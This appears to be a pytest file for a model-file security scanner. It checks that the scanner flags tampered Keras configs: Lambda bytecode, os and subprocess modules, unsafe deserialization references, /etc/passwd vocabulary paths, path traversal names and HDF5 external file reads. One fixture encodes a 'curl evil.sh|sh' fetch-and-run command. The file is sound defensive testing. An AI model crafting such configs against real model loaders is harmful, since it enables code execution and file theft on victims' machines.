@@ -1,0 +1,438 @@
+"""Keras configs: Lambda code (MG440), foreign modules (MG441), unsafe references (MG442) and
+unexpected `.keras` members (MG445), on models saved by Keras 3 and hand-edited configs."""
+
+from __future__ import annotations
+
+import base64
+import copy
+import io
+import json
+import os
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+os.environ["KERAS_BACKEND"] = "torch"  # before keras is imported (TensorFlow is not installed)
+
+from modelguard.analysers.keras import advisory_note, check_keras_config, lambda_strings
+from modelguard.filescan import FileScan
+from modelguard.policy import Policy
+from modelguard.results import FileResult, Location, Severity
+from modelguard.scanner import scan_file
+
+Json = dict[str, Any]
+
+# -- helpers -------------------------------------------------------------------------------
+
+
+def scan_path(path: Path) -> FileResult:
+    return scan_file(path, path.name, Policy())
+
+
+def rules(res: FileResult) -> set[str]:
+    return {f.rule_id for f in res.findings}
+
+
+def assert_clean(res: FileResult) -> None:
+    bad = [f for f in res.findings if f.severity >= Severity.LOW]
+    assert not bad, bad
+    assert res.complete, res.incomplete
+
+
+def run_config(config: object) -> FileScan:
+    scan = FileScan("mem.json", Policy())
+    check_keras_config(scan, config, Location("mem.json"))  # type: ignore[arg-type]
+    return scan
+
+
+def config_rules(config: object) -> set[str]:
+    return {f.rule_id for f in run_config(config).coll.findings}
+
+
+def rewrite_zip(src: Path, dst: Path, replace: dict[str, bytes]) -> Path:
+    """Copy a zip, replacing (or adding) members."""
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
+        for info in zin.infolist():
+            if info.filename not in replace:
+                zout.writestr(info, zin.read(info.filename))
+        for name, data in replace.items():
+            zout.writestr(name, data)
+    return dst
+
+
+# -- fixtures: real models saved by Keras 3 ----------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def models(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    import keras
+    from keras import layers
+
+    root = tmp_path_factory.mktemp("keras")
+    out: dict[str, Path] = {}
+
+    seq = keras.Sequential(
+        [
+            keras.Input((10,)),
+            layers.Embedding(50, 4),
+            layers.LSTM(3),
+            layers.BatchNormalization(),
+            layers.Dense(2, activation="softmax"),
+        ]
+    )
+    inner = keras.Sequential([keras.Input((3,)), layers.Dense(3), layers.LayerNormalization()])
+    image = keras.Input((8, 8, 1))
+    x = layers.Conv2D(2, 3, activation="relu")(image)
+    x = layers.Flatten()(x)
+    x = layers.Dense(3)(x)
+    fun = keras.Model(image, inner(x))
+    fun.compile(optimizer="adam", loss="mse", metrics=["mae"])
+
+    vec = keras.Input((4,))
+    lam = keras.Model(vec, layers.Lambda(lambda t: t * 2)(layers.Dense(4)(vec)))
+
+    @keras.saving.register_keras_serializable(package="MyPkg")
+    class Passthrough(layers.Layer):  # type: ignore[misc]
+        def call(self, inputs: Any) -> Any:
+            return inputs
+
+    cust = keras.Sequential([keras.Input((3,)), Passthrough()])
+
+    for name, model in (("seq", seq), ("fun", fun), ("lam", lam)):
+        for ext in ("keras", "h5"):
+            path = root / f"{name}.{ext}"
+            model.save(path)
+            out[f"{name}.{ext}"] = path
+    out["cust.keras"] = root / "cust.keras"
+    cust.save(out["cust.keras"])
+    out["fun.json"] = root / "fun.json"
+    out["fun.json"].write_text(fun.to_json())
+    return out
+
+
+def config_of(path: Path) -> Json:
+    with zipfile.ZipFile(path) as zf:
+        doc: Json = json.loads(zf.read("config.json"))
+    return doc
+
+
+# -- benign ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["seq.keras", "seq.h5", "fun.keras", "fun.h5", "fun.json"])
+def test_models_saved_by_keras_scan_clean(models: dict[str, Path], name: str) -> None:
+    assert_clean(scan_path(models[name]))
+
+
+def test_registered_custom_layer_is_foreign(models: dict[str, Path]) -> None:
+    # A registered custom object is resolved from code outside Keras: reported until allowed.
+    res = scan_path(models["cust.keras"])
+    assert rules(res) == {"MG441"}
+    # Keras writes both the registered name and, for a class outside __main__, its module.
+    assert "MyPkg>Passthrough" in {f.evidence_map.get("registered_name") for f in res.findings}
+
+
+# -- Lambda ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["lam.keras", "lam.h5"])
+def test_lambda_saved_by_keras(models: dict[str, Path], name: str) -> None:
+    res = scan_path(models[name])
+    hits = [f for f in res.findings if f.rule_id == "MG440"]
+    assert len(hits) == 1 and hits[0].severity is Severity.CRITICAL
+    assert "<lambda>" in hits[0].evidence_map["strings"]
+    assert hits[0].evidence_map["path"].endswith(".config.function")
+    assert res.complete
+
+
+def test_lambda_strings_never_unmarshal() -> None:
+    code = base64.b64encode(b"\xe3\x00\x00os\x00system\x01\x02curl evil.sh|sh").decode()
+    assert lambda_strings(code) == ["system", "curl evil.sh|sh"]
+    assert lambda_strings("!!! not base64 @@@") == ["!!! not base64 @@@"]
+
+
+# -- hand-edited configs --------------------------------------------------------------------
+
+LEGACY_CODE = base64.b64encode(b"\xe3\x00\x00\x00\x02os\x00\x06system\x00").decode()
+
+
+def _layer(config: Json, index: int = 1) -> Json:
+    layer: Json = config["config"]["layers"][index]
+    return layer
+
+
+def _set_module(module: str) -> Callable[[Json], None]:
+    def edit(config: Json) -> None:
+        _layer(config)["module"] = module
+
+    return edit
+
+
+def _activation_fn(module: str, fn: str) -> Callable[[Json], None]:
+    def edit(config: Json) -> None:
+        _layer(config)["config"]["activation"] = {
+            "module": module,
+            "class_name": "function",
+            "config": fn,
+            "registered_name": None,
+        }
+
+    return edit
+
+
+def _add_layer(entry: Json) -> Callable[[Json], None]:
+    def edit(config: Json) -> None:
+        config["config"]["layers"].append(copy.deepcopy(entry))
+
+    return edit
+
+
+def _rename(config: Json) -> None:
+    _layer(config)["config"]["name"] = "../../x"
+
+
+def _legacy_lambda(config: Json) -> None:
+    _layer(config).update(
+        class_name="Lambda",
+        config={"name": "l", "function": [LEGACY_CODE, None, None], "function_type": "lambda"},
+    )
+
+
+def _deep_lambda(config: Json) -> None:
+    # Not a layer: an initializer's config, three objects down. Every dict is walked.
+    _layer(config)["config"]["embeddings_initializer"]["config"]["seed"] = {
+        "class_name": "__lambda__",
+        "config": {"code": LEGACY_CODE, "defaults": None, "closure": None},
+    }
+
+
+EDITS: list[tuple[str, Callable[[Json], None], str, str]] = [
+    ("module-os", _set_module("os"), "MG441", "os"),
+    ("module-subprocess", _activation_fn("subprocess", "Popen"), "MG441", "subprocess"),
+    ("prefix-collision", _set_module("kerasevil.layers"), "MG441", "kerasevil.layers"),
+    ("prefix-underscore", _set_module("keras_evil"), "MG441", "keras_evil"),
+    ("get-file", _activation_fn("keras.utils", "get_file"), "MG442", "get_file"),
+    (
+        "unsafe-deser",
+        _activation_fn("keras.config", "enable_unsafe_deserialization"),
+        "MG442",
+        "enable_unsafe_deserialization",
+    ),
+    (
+        "tfsm",
+        _add_layer(
+            {
+                "module": "keras.layers",
+                "class_name": "TFSMLayer",
+                "config": {"name": "t", "filepath": "/tmp/attacker_savedmodel"},
+                "registered_name": None,
+            }
+        ),
+        "MG442",
+        "TFSMLayer",
+    ),
+    (
+        "torch-wrapper",
+        _add_layer(
+            {
+                "module": "keras.layers",
+                "class_name": "TorchModuleWrapper",
+                "config": {"name": "w", "module": "gASV..."},
+                "registered_name": "TorchModuleWrapper",
+            }
+        ),
+        "MG442",
+        "TorchModuleWrapper",
+    ),
+    (
+        "vocab-path",
+        _add_layer(
+            {
+                "module": "keras.layers",
+                "class_name": "StringLookup",
+                "config": {"name": "s", "vocabulary": "/etc/passwd"},
+                "registered_name": None,
+            }
+        ),
+        "MG442",
+        "/etc/passwd",
+    ),
+    ("path-name", _rename, "MG442", "../../x"),
+    ("legacy-lambda", _legacy_lambda, "MG440", "system"),
+    ("nested-lambda", _deep_lambda, "MG440", "system"),
+]
+
+
+@pytest.mark.parametrize(
+    ("edit", "rule", "needle"), [e[1:] for e in EDITS], ids=[e[0] for e in EDITS]
+)
+def test_edited_config_json(
+    models: dict[str, Path],
+    tmp_path: Path,
+    edit: Callable[[Json], None],
+    rule: str,
+    needle: str,
+) -> None:
+    config = config_of(models["seq.keras"])
+    edit(config)
+    path = rewrite_zip(
+        models["seq.keras"], tmp_path / "edited.keras", {"config.json": json.dumps(config).encode()}
+    )
+    res = scan_path(path)
+    hits = [f for f in res.findings if f.rule_id == rule]
+    assert hits, res.findings
+    assert any(needle in " ".join(f.evidence_map.values()) for f in hits), hits
+    assert all(f.severity >= Severity.HIGH for f in hits)
+
+
+def test_keras_archive_with_python_member(models: dict[str, Path], tmp_path: Path) -> None:
+    path = rewrite_zip(
+        models["seq.keras"], tmp_path / "extra.keras", {"custom_layers.py": b"import os\n"}
+    )
+    res = scan_path(path)
+    hits = [f for f in res.findings if f.rule_id == "MG445"]
+    assert len(hits) == 1 and hits[0].severity is Severity.LOW
+    assert hits[0].evidence_map["code_or_pickle"] == "custom_layers.py"
+
+
+def test_keras_archive_assets_are_expected(models: dict[str, Path], tmp_path: Path) -> None:
+    path = rewrite_zip(models["seq.keras"], tmp_path / "a.keras", {"assets/vocab.txt": b"a\nb\n"})
+    assert "MG445" not in rules(scan_path(path))
+
+
+def test_keras_archive_weights_with_external_storage(
+    models: dict[str, Path], tmp_path: Path
+) -> None:
+    import h5py
+
+    canary = tmp_path / "canary.txt"
+    canary.write_bytes(b"host secret\n" * 4)
+    weights = tmp_path / "model.weights.h5"
+    with h5py.File(weights, "w") as f:
+        f.create_dataset(
+            "layers/dense/vars/0", shape=(48,), dtype="u1", external=[(str(canary), 0, 48)]
+        )
+    path = rewrite_zip(
+        models["seq.keras"], tmp_path / "ext.keras", {"model.weights.h5": weights.read_bytes()}
+    )
+    res = scan_path(path)
+    hits = [f for f in res.findings if f.rule_id == "MG443"]
+    assert hits and hits[0].evidence_map["files"] == str(canary)
+    assert hits[0].location.members == ("model.weights.h5",)
+
+
+# -- unit level -----------------------------------------------------------------------------
+
+
+def test_findings_are_deduplicated() -> None:
+    layer = {"module": "os", "class_name": "X", "config": {}}
+    scan = run_config({"class_name": "M", "config": {"layers": [layer, layer, layer]}})
+    hits = [f for f in scan.coll.findings if f.rule_id == "MG441"]
+    assert len(hits) == 1
+    assert hits[0].evidence_map["occurrences"] == "3"
+    assert hits[0].evidence_map["path"] == "config.layers[0].module"
+
+
+@pytest.mark.parametrize(
+    ("config", "expected"),
+    [
+        ({"class_name": "Dense", "config": {}, "module": "keras.layers"}, set()),
+        ({"class_name": "Dense", "config": {}, "module": "keras_hub.layers"}, set()),
+        ({"class_name": "function", "config": "relu", "module": "builtins"}, set()),
+        ({"class_name": "Dense", "config": {}, "module": "kerasx"}, {"MG441"}),
+        ({"class_name": "X", "config": {}, "registered_name": "keras_hub>Bert"}, set()),
+        ({"class_name": "Evil>X", "config": {}}, {"MG441"}),
+        ({"class_name": "load_model", "config": {}, "module": "keras.models"}, {"MG442"}),
+        (
+            {"class_name": "X", "config": {}, "module": "keras.utils.image_dataset_from_directory"},
+            {"MG442"},
+        ),
+        ({"class_name": "L", "config": {"vocabulary": ["a", "b"]}}, set()),
+        ({"class_name": "L", "config": {"vocabulary": None, "proto": "https://x/y"}}, {"MG442"}),
+        ({"class_name": "L", "config": {"name": "..\\evil"}}, {"MG442"}),
+        ({"class_name": "__lambda__", "config": {"value": [LEGACY_CODE, None, None]}}, {"MG440"}),
+    ],
+)
+def test_config_table(config: Json, expected: set[str]) -> None:
+    assert config_rules(config) == expected
+
+
+def test_deep_nesting_is_incomplete_not_a_crash() -> None:
+    deep: object = {"class_name": "__lambda__", "config": {"code": LEGACY_CODE}}
+    for _ in range(500):
+        deep = [deep]
+    scan = run_config({"class_name": "M", "config": {"x": deep}})
+    assert [i.rule_id for i in scan.coll.incomplete] == ["MG003"]
+
+
+def test_standalone_json_with_lambda(models: dict[str, Path], tmp_path: Path) -> None:
+    config = json.loads(models["fun.json"].read_text())
+    _layer(config)["config"]["activation"] = {
+        "class_name": "__lambda__",
+        "config": {"code": LEGACY_CODE},
+    }
+    path = tmp_path / "model.json"
+    path.write_text(json.dumps(config))
+    assert "MG440" in rules(scan_path(path))
+
+
+@pytest.mark.parametrize(
+    ("subject", "version", "cve"),
+    [
+        ("ref:get_file", "3.10.0", "CVE-2025-8747"),
+        ("ref:get_file", "3.11.0", None),
+        ("ref:TorchModuleWrapper", "3.11.2", "CVE-2025-49655"),
+        ("lambda:x", "2.12.0", "CVE-2024-3660"),
+        ("vocab:/etc/passwd", "3.15.1", None),
+        ("module:os", "garbage", None),
+    ],
+)
+def test_advisory_note_only_labels(subject: str, version: str, cve: str | None) -> None:
+    note = advisory_note(subject, version)
+    assert note.startswith(f" (saved by Keras {version}")
+    assert (cve in note) if cve else ("range" not in note)
+    assert advisory_note(subject, None) == ""
+
+
+# -- fuzz -------------------------------------------------------------------------------------
+
+_KEYS = st.sampled_from(
+    [
+        "class_name", "config", "module", "registered_name", "fn_module", "function",
+        "function_type", "name", "vocabulary", "code", "value", "layers", "x",
+    ]
+)  # fmt: skip
+_SCALARS = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    st.floats(allow_nan=True),
+    st.sampled_from(
+        ["__lambda__", "lambda", "function", "os", "keras.layers", "a>b", ">", ".", "..", ""]
+    ),
+    st.text(max_size=20),
+)
+_JSON = st.recursive(
+    _SCALARS,
+    lambda inner: st.one_of(st.lists(inner, max_size=5), st.dictionaries(_KEYS, inner, max_size=6)),
+    max_leaves=40,
+)
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(config=st.dictionaries(_KEYS, _JSON, max_size=6))
+def test_fuzz_check_keras_config(config: Json) -> None:
+    scan = run_config(config)
+    assert all(i.rule_id == "MG003" for i in scan.coll.incomplete)
+
+
+def test_fuzz_seed_roundtrip() -> None:
+    # The fuzz's JSON values survive a dump/parse (what textfiles hands over).
+    buf = io.StringIO()
+    json.dump({"class_name": "x", "config": {}}, buf)
+    assert config_rules(json.loads(buf.getvalue())) == set()
